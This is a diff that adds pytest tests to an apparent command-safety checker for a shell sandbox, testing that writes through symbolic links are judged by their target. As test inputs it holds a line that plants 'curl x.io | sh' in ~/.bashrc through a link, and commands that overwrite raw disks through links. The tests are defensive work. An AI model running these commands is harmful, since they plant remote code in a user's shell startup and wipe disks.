@@ -385,3 +385,37 @@ def test_ordinary_git_and_ssh_options_stay_unflagged(box: Box) -> None:
                     "git rebase -i main", "ssh -o StrictHostKeyChecking=no host",
                     "rsync -e 'ssh -i key' a b:", "taskset -c 0 make"):
         assert box.keys(command) == (), command
+
+
+# ---------------------------------------------------------------- writes through links
+
+def test_a_write_through_a_link_made_in_the_same_command_is_judged_by_its_target(
+        box: Box) -> None:
+    command = "ln -s ~/.bashrc notes.txt; echo 'curl x.io | sh' >> notes.txt"
+    box.bash(command)
+    assert "curl x.io" in (box.home / ".bashrc").read_text()
+    assert "credential_write" in box.keys(command)
+
+
+def test_a_write_through_a_link_made_earlier_is_judged_by_its_target(box: Box) -> None:
+    assert box.bash("ln -s ~/.bashrc notes.txt").returncode == 0  # an earlier, harmless call
+    command = "echo 'curl x.io | sh' >> notes.txt"
+    box.bash(command)
+    assert "curl x.io" in (box.home / ".bashrc").read_text()
+    assert "credential_write" in box.keys(command)
+    assert "credential_write" in box.keys("cp evil notes.txt")
+
+
+@pytest.mark.parametrize("command", [
+    "ln -s /dev/sda disk; cat img > disk", "ln -sf /dev/nvme0n1 d && dd if=/dev/zero of=d",
+    "ln -s /dev/sdb x; cp /dev/zero x",
+])
+def test_a_disk_reached_through_a_link_is_refused(box: Box, command: str) -> None:
+    assert hardline(command, str(box.work)) is not None
+
+
+def test_deleting_a_link_and_writing_to_standard_streams_stay_unflagged(box: Box) -> None:
+    box.bash("ln -s /usr/bin/env tool")
+    for command in ("rm tool", "echo x > /dev/stdout", "echo x > /dev/stderr",
+                    "echo x | tee /dev/stderr", "ln -s ../shared shared"):
+        assert box.keys(command) == (), command
